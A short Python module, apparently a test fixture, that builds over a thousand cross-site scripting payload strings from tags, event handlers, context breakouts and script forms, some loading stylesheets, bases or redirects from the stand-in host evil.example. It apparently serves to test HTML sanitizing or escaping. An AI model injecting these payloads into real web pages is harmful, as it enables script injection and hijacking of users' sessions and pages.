"""More than a thousand texts that would be scripts if a page took text for markup."""

from __future__ import annotations

from itertools import product

TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "details open",
    "iframe src=javascript:hit=1",
    "a href=#",
    "input autofocus",
    "marquee",
    "object data=x",
)
EVENTS = ("onerror", "onload", "ontoggle", "onfocus autofocus", "onmouseover", "onclick", "onstart", "onbegin")
AROUND = ("{}", '"{}', "'>{}", "</script>{}", "--></textarea>{}", "`{}`", "{{{{{}}}}}", "</title>{}", "]]>{}")
SCRIPTS = (
    "<script>window.hit=1</script>",
    "javascript:window.hit=1",
    "<style>@import'//evil.example/x'</style>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "${window.hit=1}",
    "{@html 'x'}",
    "%3Cscript%3Ewindow.hit=1%3C/script%3E",
)
PAYLOADS = tuple(
    around.format(text)
    for around, text in product(
        AROUND,
        (
            *(f"<{tag} {event}=window.hit=1>" for tag, event in product(TAGS, EVENTS)),
            *SCRIPTS,
            *(
                f"<{tag} onpointerenter=window.hit=1 src=//evil.example/{number}>"
                for number, tag in enumerate(TAGS * 3)
            ),
        ),
    )
)
assert len(PAYLOADS) > 1_000
